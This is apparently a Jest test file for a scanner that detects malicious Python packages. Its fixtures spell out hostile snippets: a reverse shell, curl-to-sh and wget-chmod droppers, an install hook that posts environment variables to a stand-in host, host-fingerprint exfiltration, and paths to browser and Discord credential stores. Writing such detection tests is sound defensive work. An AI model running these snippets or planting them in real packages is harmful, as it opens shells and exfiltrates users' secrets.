import { describe, expect, it } from '@jest/globals';
import { severityAtLeast, type Finding } from '../findings/finding.js';
import { STATIC_RULES } from './rules/index.js';
import { scanSources } from './scan-sources.js';

/** Scans one sdist made of the given files (paths under `demo-1.0/`), with a PKG-INFO. */
function scan(files: Record<string, string>, name = 'demo', version = '1.0'): Finding[] {
  const texts = Object.entries(files).map(([path, text]) => ({ path: `${name}-${version}/${path}`, text }));
  texts.push({ path: `${name}-${version}/PKG-INFO`, text: `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n` });
  return scanSources(texts);
}
const top = (fs: Finding[], rule?: string): string => {
  const mine = rule ? fs.filter((f) => f.rule === rule) : fs;
  return ['critical', 'high', 'medium', 'low'].find((s) => mine.some((f) => f.severity === s)) ?? 'none';
};
const mediumPlus = (fs: Finding[]): Finding[] => fs.filter((f) => severityAtLeast(f.severity, 'medium'));

describe('static rules', () => {
  it('declares every rule with an id, description, severity and technique, ids unique', () => {
    const ids = STATIC_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of STATIC_RULES) {
      expect(r.id).toMatch(/^[a-z][a-z0-9-]+$/);
      expect(r.description.length).toBeGreaterThan(20);
      expect(r.technique.length).toBeGreaterThan(20);
    }
  });

  it('exec-decoded: exec of base64/zlib/marshal/rot13/reversed data, directly or through a name', () => {
    expect(top(scan({ 'setup.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/__init__.py': "import zlib, base64\npayload = zlib.decompress(base64.b64decode(DATA))\nexec(payload)\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/x.py': "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'setup.py': "s = ')1(tnirp'\neval(s[::-1])\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'setup.py': "eval(')1(tnirp'[::-1])\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'setup.py': "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n" }), 'exec-decoded')).toBe('high');
    const f = scan({ 'setup.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" }).find((x) => x.rule === 'exec-decoded')!;
    expect(f.phase).toBe('static');
    expect(f.evidence).toEqual([]);
    expect(f.sources![0]).toEqual({ file: 'demo-1.0/setup.py', line: 2, excerpt: "exec(base64.b64decode('cHJpbnQoMSk='))" });
  });

  it('exec of a version file, re.compile, Qt exec and docstrings are not medium+', () => {
    const benign = scan({
      'setup.py': [
        '"""Setup. Example: exec(base64.b64decode(x)) is what malware does."""',
        'import re, base64',
        "exec(open('pkg/version.py').read())",
        'version_ns = {}',
        "with open('pkg/_version.py') as f:",
        '    exec(f.read(), version_ns)',
        "PAT = re.compile(base64.b64encode(b'x'))",
        '# exec(base64.b64decode(PAYLOAD))',
        "setup(name='demo', version=version_ns['__version__'])",
      ].join('\n'),
      'pkg/gui.py': 'def main(app):\n    return app.exec()\n',
    });
    expect(mediumPlus(benign)).toEqual([]);
  });

  it('exec-decoded: a process start through a decoding wrapper, exec of an XOR-decoded name, a request to a decoded URL', () => {
    const wrapper = "import base64, os\ndef b64d(s):\n    return base64.b64decode(s).decode()\ndef go():\n    os.system(b64d('aWQ='))\n";
    expect(top(scan({ 'setup.py': wrapper }), 'exec-decoded')).toBe('high');
    const xor = "out = ''\nfor a, b in zip(DATA, KEY):\n    out += chr(ord(a) ^ ord(b))\neval(compile(out, '<string>', 'exec'))\n";
    expect(top(scan({ 'pkg/colors.py': xor }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/a.py': "import base64, requests\nu = base64.b64decode(ENC).decode()\nr = requests.get(u)\n" }), 'exec-decoded')).toBe('medium');
    expect(top(scan({ 'pkg/a.py': "import base64, requests\nauth = base64.b64encode(b'u:p')\nr = requests.get(URL, headers={'Authorization': auth})\n" }), 'exec-decoded')).toBe('none');
  });

  it('obfuscated-import: builtins looked up through computed names', () => {
    const obf = "if x == ''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2]), [1, 2])):\n    pass\n";
    expect(top(scan({ 'setup.py': obf }), 'obfuscated-import')).toBe('high');
    expect(top(scan({ 'pkg/x.py': 'def f(name):\n    return getattr(__builtins__, name)\n' }), 'obfuscated-import')).toBe('low');
  });

  it('fingerprint-exfil: a module function posting the host name to a webhook', () => {
    const src = "import socket, requests\nWEBHOOK = 'https://hooks.invalid/webhook'\ndef report():\n    ip = socket.gethostbyname(socket.gethostname())\n    requests.post(WEBHOOK, data={'ip': ip})\n";
    expect(top(scan({ 'pkg/util.py': src }), 'fingerprint-exfil')).toBe('high');
  });

  it('script-drop: a stage written to disk; marshal of decoded data; module-level start of a URL', () => {
    expect(top(scan({ 'pkg/t.py': "with open('/tmp/x.sh', 'w') as f:\n    f.write('wget http://stage.invalid/p -O /tmp/p; chmod +x /tmp/p; /tmp/p')\n" }), 'script-drop')).toBe('high');
    expect(top(scan({ 'pkg/m.py': "import marshal, base64\nCODE = marshal.loads(base64.b64decode('4wAAAA=='))\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/n.py': "import os\nos.system('start https://stage.invalid/')\n" }), 'install-time-process')).toBe('high');
    expect(top(scan({ 'pkg/c.py': "import requests\ndef f(d):\n    requests.post('https://collector.herokuapp.com/zz', json=d)\n" }), 'exfil-endpoint')).toBe('medium');
  });

  it('object construction and class definitions are not calls: PoolManager() in __init__, class Popen(Process)', () => {
    expect(mediumPlus(scan({ 'pkg/__init__.py': 'from .pool import PoolManager\n_DEFAULT_POOL = PoolManager()\nclass Popen(Process):\n    pass\n' }))).toEqual([]);
  });

  it('remote-shell: socket to shell, recv then run, request args run; exec of a decoding lambda', () => {
    const rev = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nwhile True:\n    cmd = s.recv(1024).decode()\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n";
    expect(top(scan({ 'pkg/__init__.py': rev }), 'remote-shell')).toBe('high');
    expect(top(scan({ 'pkg/x.py': "import os, socket, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n" }), 'remote-shell')).toBe('high');
    expect(top(scan({ 'pkg/web.py': "@app.route('/p')\ndef p():\n    out = subprocess.Popen(request.args.get('c'), shell=True)\n" }), 'remote-shell')).toBe('high');
    expect(top(scan({ 'pkg/d.py': "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AAAA'))\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/srv.py': "import subprocess\ndef build():\n    subprocess.check_call(['make'])\n" }), 'remote-shell')).toBe('none');
  });

  it('import-time code: a top-level function called at module level counts; decoder aliases; wget+chmod in a module', () => {
    const init = "import requests\ndef _log():\n    try:\n        requests.post('https://collector.invalid/_log', json={})\n    except Exception:\n        pass\n_log()\n";
    expect(top(scan({ 'pkg/__init__.py': init }), 'install-time-network')).toBe('medium');
    expect(top(scan({ 'pkg/__init__.py': init.replace('_log()\n', '').concat('') }), 'install-time-network')).toBe('none');
    expect(top(scan({ 'pkg/__init__.py': "from base64 import b64decode as dec\nexec(dec('cHJpbnQoMSk='))\n" }), 'exec-decoded')).toBe('high');
    expect(top(scan({ 'pkg/p.py': "import subprocess\ndef go(f):\n    subprocess.Popen(f'cd /tmp && wget -q https://gitlab.com/x/y/-/raw/main/b -O {f} && chmod +x {f}', shell=True)\n" }), 'download-execute')).toBe('high');
  });

  it('exec-remote: exec of a downloaded body', () => {
    expect(top(scan({ 'setup.py': "import requests\nexec(requests.get('http://stage.invalid/p').text)\n" }), 'exec-remote')).toBe('critical');
    expect(top(scan({ 'setup.py': "from urllib.request import urlopen\nr = urlopen('http://127.0.0.1:9/x')\ncode = r.read()\nexec(code)\n" }), 'exec-remote')).toBe('critical');
  });

  it('exec-obfuscated: exec of chr codes, a join of chunks, a long literal; not compile of a joined file', () => {
    expect(top(scan({ 'pkg/a.py': "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n" }), 'exec-obfuscated')).toBe('medium');
    expect(top(scan({ 'pkg/a.py': `exec("${'x=1;'.repeat(40)}")\n` }), 'exec-obfuscated')).toBe('medium');
    expect(top(scan({ 'pkg/a.py': "p = ''\np += 'imp'\np += 'ort os'\np += '\\n'\nexec(p)\n" }), 'exec-obfuscated')).toBe('medium');
    expect(top(scan({ 'pkg/a.py': "tree = compile(''.join(self.lines), '', 'exec')\n" }), 'exec-obfuscated')).toBe('none');
  });

  it('obfuscated-import: __import__("os").system and builtins exec in setup.py; plugin getattr(__import__) in a module is low', () => {
    expect(top(scan({ 'setup.py': "__import__('os').system('id')\n" }), 'obfuscated-import')).toBe('high');
    expect(top(scan({ 'pkg/__init__.py': "__import__('builtins').exec(CODE)\n" }), 'obfuscated-import')).toBe('high');
    expect(top(scan({ 'pkg/plugins.py': 'def load(m, v):\n    return getattr(__import__(m, fromlist=[v]), v)\n' }), 'obfuscated-import')).toBe('low');
    expect(top(scan({ 'pkg/__init__.py': "__import__('pkg_resources').declare_namespace(__name__)\n" }), 'obfuscated-import')).toBe('none');
  });

  it('hidden-whitespace: code after 100+ blanks; a deep indent or padded table is not', () => {
    expect(top(scan({ 'setup.py': `import os${' '.repeat(150)};__import__('builtins').exec(X)\n` }), 'hidden-whitespace')).toBe('high');
    expect(top(scan({ 'pkg/t.py': `TABLE = ["a",${' '.repeat(120)}"b"]\n` }), 'hidden-whitespace')).toBe('none');
    expect(top(scan({ 'pkg/t.py': `def f():\n${' '.repeat(104)}return 1\n` }), 'hidden-whitespace')).toBe('none');
  });

  it('encoded-blob: a 2000+ character base64 literal in setup.py is medium, in a plain module low', () => {
    const blob = 'QUJDMTIz+/'.repeat(250);
    expect(top(scan({ 'setup.py': `DATA = "${blob}"\n` }), 'encoded-blob')).toBe('medium');
    expect(top(scan({ 'pkg/icons.py': `ICON = "${blob}"\n` }), 'encoded-blob')).toBe('low');
  });

  it('pyarmor: PyArmor runtimes', () => {
    expect(top(scan({ 'pkg/__init__.py': "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000')\n" }), 'pyarmor')).toBe('medium');
  });

  it('install-time-network: setup.py and module-level __init__ calls; a function body in __init__ is not', () => {
    expect(top(scan({ 'setup.py': "import requests\nrequests.get('http://collector.invalid/ping')\n" }), 'install-time-network')).toBe('medium');
    expect(top(scan({ 'pkg/__init__.py': "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n" }), 'install-time-network')).toBe('medium');
    expect(top(scan({ 'pkg/__init__.py': 'import requests\ndef fetch(url):\n    return requests.get(url)\n' }), 'install-time-network')).toBe('none');
    expect(top(scan({ 'pkg/client.py': "import requests\nrequests.get('http://collector.invalid/')\n" }), 'install-time-network')).toBe('none');
  });

  it('install-time-process: curl|sh or powershell in setup.py is high; git describe is nothing', () => {
    expect(top(scan({ 'setup.py': "import os\nos.system('curl -s http://stage.invalid/x | sh')\n" }), 'install-time-process')).toBe('high');
    expect(top(scan({ 'setup.py': "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags'])\n" }), 'install-time-process')).toBe('none');
    expect(top(scan({ 'pkg/__init__.py': "import subprocess\nsubprocess.Popen(['/tmp/x'])\n" }), 'install-time-process')).toBe('medium');
  });

  it('cmdclass-io: an install override that fetches or runs; build_ext compiling and build_py writing a version file are not', () => {
    const evil = [
      'from setuptools import setup', 'from setuptools.command.install import install', 'import os, requests',
      'class PostInstall(install):', '    def run(self):', '        install.run(self)', "        requests.post('http://collector.invalid/', data=os.environ.copy())",
      "setup(name='demo', cmdclass={'install': PostInstall})",
    ].join('\n');
    expect(top(scan({ 'setup.py': evil }), 'cmdclass-io')).toBe('high');
    const benign = [
      'import subprocess', 'from setuptools import setup', 'from setuptools.command.build_ext import build_ext', 'from setuptools.command.build_py import build_py',
      'class CMakeBuild(build_ext):', '    def run(self):', "        subprocess.check_call(['cmake', '..'])", "        subprocess.check_call(['make', '-j2'])",
      'class WriteVersion(build_py):', '    def run(self):', "        with open('pkg/_version.py', 'w') as f:", "            f.write('__version__ = \"1.0\"')", '        build_py.run(self)',
      "setup(name='demo', cmdclass={'build_ext': CMakeBuild, 'build_py': WriteVersion})",
    ].join('\n');
    expect(mediumPlus(scan({ 'setup.py': benign }))).toEqual([]);
  });

  it('download-execute: urlretrieve then startfile in setup.py is critical', () => {
    const src = "import os, urllib.request\np = os.path.join(os.getenv('TEMP'), 'u.exe')\nurllib.request.urlretrieve('http://stage.invalid/u.exe', p)\nos.startfile(p)\n";
    expect(top(scan({ 'setup.py': src }), 'download-execute')).toBe('critical');
  });

  it('windows-dropper: hidden PowerShell, Startup folder; platformdirs-like APPDATA use is not', () => {
    expect(top(scan({ 'pkg/__init__.py': "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand AAAA', shell=True)\n" }), 'windows-dropper')).toBe('high');
    expect(top(scan({ 'pkg/p.py': "import os\ndst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup')\np = r'C:\\\\Users\\\\x\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup'\n" }), 'windows-dropper')).toBe('high');
    expect(top(scan({ 'pkg/dirs.py': "import os\ndef user_data_dir():\n    return os.path.join(os.environ['APPDATA'], 'demo')\n" }), 'windows-dropper')).toBe('none');
  });

  it('exfil-endpoint: Discord webhook with id, interactsh host; a webhook URL template is low', () => {
    expect(top(scan({ 'pkg/a.py': "HOOK = 'https://discord.com/api/webhooks/123456789012/abcdef'\n" }), 'exfil-endpoint')).toBe('high');
    expect(top(scan({ 'setup.py': "URL = 'http://abc.oast.fun/x'\n" }), 'exfil-endpoint')).toBe('medium');
    expect(top(scan({ 'pkg/a.py': "BASE = 'https://discord.com/api/webhooks/{id}/{token}'\n" }), 'exfil-endpoint')).toBe('low');
    expect(top(scan({ 'pkg/a.py': "LOCAL = 'http://127.0.0.1:8080/'\nLAN = 'http://192.168.1.2/'\n" }), 'exfil-endpoint')).toBe('none');
  });

  it('credential-paths: Chrome Login Data and Discord leveldb are high; ~/.pypirc in an uploader module is low', () => {
    expect(top(scan({ 'pkg/s.py': "p = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n" }), 'credential-paths')).toBe('high');
    expect(top(scan({ 'pkg/s.py': "p = ROAMING + '\\\\discord\\\\Local Storage\\\\leveldb'\n" }), 'credential-paths')).toBe('high');
    expect(top(scan({ 'pkg/upload.py': "import requests\nRC = '~/.pypirc'\nrequests.post(URL, data=d)\n" }), 'credential-paths')).toBe('low');
  });

  it('fingerprint-exfil: setup.py sending user and host names is critical', () => {
    const probe = "import socket, getpass, requests\nd = {'u': getpass.getuser(), 'h': socket.gethostname()}\nrequests.post('http://collector.invalid/', json=d)\n";
    expect(top(scan({ 'setup.py': probe }), 'fingerprint-exfil')).toBe('critical');
    const dns = "import socket, os\nsocket.gethostbyname(os.getlogin() + '.probe.invalid')\n";
    expect(top(scan({ 'setup.py': dns }), 'fingerprint-exfil')).toBe('critical');
    expect(top(scan({ 'pkg/log.py': "import socket\ndef emit(s):\n    s.send(socket.gethostname().encode())\n" }), 'fingerprint-exfil')).toBe('none');
  });

  it('typosquat-shadow: a top-level requests package in a distribution of another name', () => {
    expect(top(scan({ 'requests/__init__.py': 'x = 1\n' }, 'reqeusts'), 'typosquat-shadow')).toBe('medium');
    expect(top(scan({ 'requests/__init__.py': 'x = 1\n' }, 'requests'), 'typosquat-shadow')).toBe('none');
    expect(top(scan({ 'yaml/__init__.py': 'x = 1\n' }, 'PyYAML'), 'typosquat-shadow')).toBe('none');
  });

  it('suspicious-version: 999.x is low only', () => {
    expect(top(scan({ 'setup.py': 'from setuptools import setup\nsetup()\n' }, 'internal-lib', '999.0.1'))).toBe('low');
  });

  it('caps cited lines at 20 per finding and excerpts at 300 characters', () => {
    const lines = Array.from({ length: 30 }, () => `exec(base64.b64decode('${'A'.repeat(400)}'))`).join('\n');
    const f = scan({ 'setup.py': lines }).find((x) => x.rule === 'exec-decoded')!;
    expect(f.sources).toHaveLength(20);
    for (const s of f.sources!) expect(s.excerpt.length).toBeLessThanOrEqual(300);
    expect(f.title).toContain('30 lines');
  });
});
